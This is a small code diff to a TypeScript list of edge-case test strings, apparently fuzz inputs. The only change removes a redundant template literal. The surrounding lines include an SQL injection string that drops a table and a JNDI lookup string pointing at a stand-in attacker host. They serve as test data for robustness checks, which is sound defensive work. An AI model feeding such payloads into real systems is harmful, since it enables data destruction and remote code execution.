@@ -8,7 +8,7 @@ export const TEXTS: readonly string[] = [
   'hasOwnProperty',
   '🔑👩‍💻🏴󠁧󠁢󠁳󠁣󠁴󠁿',
   'ｆｕｌｌ＝１＋１',
-  `${'tag-longer-than-any-column '.repeat(40)}`,
+  'tag-longer-than-any-column '.repeat(40),
   'a\u0000b',
   "'; DROP TABLE findings; --",
   '${jndi:ldap://evil.example/x}',
